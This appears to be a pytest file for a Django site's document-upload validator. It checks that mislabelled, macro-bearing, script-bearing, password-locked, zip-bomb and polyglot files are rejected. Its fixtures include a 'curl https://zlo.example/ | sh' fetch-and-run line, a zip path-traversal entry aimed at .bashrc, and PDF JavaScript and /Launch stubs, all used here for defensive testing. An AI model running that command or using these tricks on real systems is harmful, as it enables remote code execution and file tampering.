"""A file is what its name says, or it isn't taken."""

import io
import zipfile

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile

from home.file_contents import CHECKS, Problem, problem_of
from home.models import SiteDocument
from home.text import NBSP
from tests import factories
from tests.reading import source

PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04" + bytes(range(256)) * 20
SCRIPT = b"#!/bin/sh\ncurl https://zlo.example/ | sh\n"


def archive(**files: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in files.items():
            packed.writestr(name, content)
    return stream.getvalue()


def office(main: str) -> bytes:
    override = f'<Override PartName="/x" ContentType="application/vnd.{main}.main+xml"/>'
    return archive(**{"[Content_Types].xml": f"<Types>{override}</Types>".encode(), "x": b"<x/>"})


HONEST = {
    "csv": "imię;miejsce\nŁucja;Dębniki\n".encode("cp1250"),
    "docx": office("openxmlformats-officedocument.wordprocessingml.document"),
    "epub": archive(mimetype=b"application/epub+zip"),
    "ics": b"\xef\xbb\xbfBEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n",
    "odp": archive(mimetype=b"application/vnd.oasis.opendocument.presentation"),
    "ods": archive(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"),
    "odt": archive(mimetype=b"application/vnd.oasis.opendocument.text"),
    "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj",
    "pptx": office("openxmlformats-officedocument.presentationml.presentation"),
    "rtf": rb"{\rtf1\ansi Regulamin}",
    "txt": "Zażółć gęślą jaźń".encode("utf-16"),
    "xlsx": office("openxmlformats-officedocument.spreadsheetml.sheet"),
    "zip": archive(**{"zdjecia/1.txt": b"x"}),
}
OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)


def changed(extension: str, **more: bytes) -> bytes:
    """The honest file with more parts; Python's names have "__" where those of the parts have a slash."""
    stream = io.BytesIO(HONEST[extension])
    with zipfile.ZipFile(stream, "a") as packed:
        for name, content in more.items():
            packed.writestr(name.replace("__", "/"), content)
    return stream.getvalue()


def locked(content: bytes) -> bytes:
    """As a program with a password writes it: each part says so, in its own header and in the list."""
    found = bytearray(content)
    for start, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        found[content.index(start) + flags] |= 1
    return bytes(found)


def growing() -> bytes:
    """A few bytes that say they unpack to two gigabytes."""
    found = bytearray(HONEST["xlsx"])
    at = found.rindex(b"PK\x01\x02") + 24
    found[at : at + 4] = (2**31).to_bytes(4, "little")
    return bytes(found)


LIES = {
    **{f"a program as {extension}": (extension, PROGRAM) for extension in HONEST},
    **{f"a script as {extension}": (extension, SCRIPT) for extension in HONEST if extension not in ("csv", "txt")},
    "a program with an archive at its end": ("zip", PROGRAM + HONEST["zip"]),
    "a program with a document at its end": ("docx", PROGRAM + HONEST["docx"]),
    "a program with PDF inside": ("pdf", PROGRAM[:64] + HONEST["pdf"]),
    "an archive as a document": ("docx", HONEST["zip"]),
    "a document as a spreadsheet": ("xlsx", HONEST["docx"]),
    "OpenDocument as Word": ("docx", HONEST["odt"]),
    "another main part": ("docx", office("ms-word.document.macroEnabled")),
    "half an archive": ("docx", HONEST["docx"][:60]),
    "a web page as PDF": ("pdf", b"<html><script>alert(1)</script></html>"),
    "a program that begins as text of two bytes": ("txt", b"\xff\xfe" + PROGRAM),
    "half a letter of two bytes": ("csv", HONEST["txt"] + b"x"),
    "half a pair of two bytes": ("csv", HONEST["txt"] + b"\x00\xd8"),
    "a PDF as text": ("txt", HONEST["pdf"] + b"\x00\x01"),
}
DANGERS = {
    "macros": ("docx", changed("docx", word__vbaProject="x"), Problem.ACTS),
    "macros of old Excel": ("xlsx", changed("xlsx", xl__macrosheets__sheet1="x"), Problem.ACTS),
    "a control": ("pptx", changed("pptx", **{"ppt__activeX__activeX1.xml": "x"}), Problem.ACTS),
    "an object of another program": (
        "docx",
        changed("docx", **{"word__embeddings__oleObject1.bin": "x"}),
        Problem.ACTS,
    ),
    "macros of LibreOffice": ("odt", changed("odt", **{"Basic__Standard__Module1.xml": "x"}), Problem.ACTS),
    "a PDF that runs something": ("pdf", HONEST["pdf"] + b" /OpenAction << /S /JavaScript /JS (x) >>", Problem.ACTS),
    "a PDF that starts something, at the edge of what is read": (
        "pdf",
        HONEST["pdf"].ljust(64 * 1024 - 4) + b"/Launch",
        Problem.ACTS,
    ),
    "an object in RTF": ("rtf", HONEST["rtf"] + rb"{\object\objdata 0105}", Problem.ACTS),
    "a program in an archive": ("zip", changed("zip", **{"faktura.pdf.exe": "x"}), Problem.ACTS),
    "a way out of the folder": ("zip", changed("zip", **{"..__..__.bashrc": "x"}), Problem.ACTS),
    "a Word file with a password": ("docx", OLD, Problem.LOCKED),
    "a locked archive": ("zip", locked(HONEST["zip"]), Problem.LOCKED),
    "OpenDocument with a password": (
        "odt",
        changed("odt", **{"META-INF__manifest.xml": b"<manifest:encryption-data/>"}),
        Problem.LOCKED,
    ),
    "an archive that grows": ("xlsx", growing(), Problem.TOO_MUCH),
    "a list of parts without end": ("zip", archive(**{f"{n:0190}": b"" for n in range(9000)}), Problem.TOO_MUCH),
    "a page behind a document": ("docx", HONEST["docx"] + b"<html></html>", Problem.TWO_FILES),
    "an archive before a document": ("docx", HONEST["zip"] + HONEST["docx"], Problem.TWO_FILES),
    "an archive behind a PDF": ("pdf", HONEST["pdf"] + HONEST["zip"], Problem.TWO_FILES),
}
ALLOWED = {
    "a spreadsheet inside a document": ("docx", changed("docx", **{"word__embeddings__Arkusz1.xlsx": "x"})),
    "a name that only looks like a program": ("zip", changed("zip", **{"zdjecia__exe.jpg": "x"})),
}


def test_every_type_that_may_be_added_is_known() -> None:
    assert set(CHECKS) == set(settings.WAGTAILDOCS_EXTENSIONS) == set(HONEST)


@pytest.mark.parametrize("extension", HONEST)
def test_an_honest_file_is_taken(extension: str) -> None:
    assert problem_of(io.BytesIO(HONEST[extension]), extension) is None


@pytest.mark.parametrize(("extension", "content"), LIES.values(), ids=list(LIES))
def test_what_is_something_else_is_not(extension: str, content: bytes) -> None:
    assert problem_of(io.BytesIO(content), extension) == Problem.OTHER_CONTENT


@pytest.mark.parametrize(("extension", "content", "problem"), DANGERS.values(), ids=list(DANGERS))
def test_what_could_harm_whoever_opens_it_is_not(extension: str, content: bytes, problem: Problem) -> None:
    assert problem_of(io.BytesIO(content), extension) == problem


@pytest.mark.parametrize(("extension", "content"), ALLOWED.values(), ids=list(ALLOWED))
def test_what_is_harmless_is(extension: str, content: bytes) -> None:
    assert problem_of(io.BytesIO(content), extension) is None


@pytest.mark.django_db
class TestForms:
    def test_the_form_says_so_beside_the_field_and_keeps_what_was_written(self, admin_client):
        data = {"title": "Regulamin naboru", "language": "pl", "file": SimpleUploadedFile("regulamin.PDF", PROGRAM)}
        answer = admin_client.post("/admin/documents/add/", data)
        errors = answer.context["form"].errors["file"].as_data()
        assert [error.code for error in errors] == ["other-content"]
        assert str(errors[0].message).replace(NBSP, " ") in source(answer)
        assert "Regulamin naboru" in source(answer)
        assert not SiteDocument.objects.exists()

    def test_the_upload_of_many_says_so_and_goes_on(self, admin_client):
        answers = []
        for content in (PROGRAM, HONEST["pdf"]):
            data = {"title": "Regulamin", "files[]": SimpleUploadedFile("regulamin.pdf", content)}
            ajax = {"x-requested-with": "XMLHttpRequest"}
            answers.append(admin_client.post("/admin/documents/multiple/add/", data, headers=ajax).json())
        assert [answer["success"] for answer in answers] == [False, True]
        assert "pdf" in answers[0]["error_message"]

    def test_many_files_are_taken_at_once_in_the_language_of_the_last_one(self, admin_client):
        """Each was kept back before, until somebody had said its language in a form of its own."""
        for number, language in enumerate(("pl", "en")):
            data = {"title": f"Rules {number}", "files[]": SimpleUploadedFile("rules.pdf", HONEST["pdf"])}
            ajax = {"x-requested-with": "XMLHttpRequest"}
            answer = admin_client.post("/admin/documents/multiple/add/", data, headers=ajax).json()
            document = SiteDocument.objects.get(pk=answer["doc_id"])
            assert document.language == language
            SiteDocument.objects.update(language="en")
        form = admin_client.get("/admin/documents/add/").context["form"]
        assert form["language"].value() == "en"
        data = {"title": "Rules", "language": "", "file": SimpleUploadedFile("rules.pdf", HONEST["pdf"])}
        assert "language" in admin_client.post("/admin/documents/add/", data).context["form"].errors

    def test_other_words_for_a_file_of_before_are_no_new_file(self, admin_client):
        """Files that were added before their content was looked at can still be renamed."""
        document = factories.document()
        data = {"title": "Nowa nazwa", "language": "pl", "collection": document.collection_id, "tags": ""}
        admin_client.post(f"/admin/documents/edit/{document.pk}/", data)
        assert SiteDocument.objects.get().title == "Nowa nazwa"
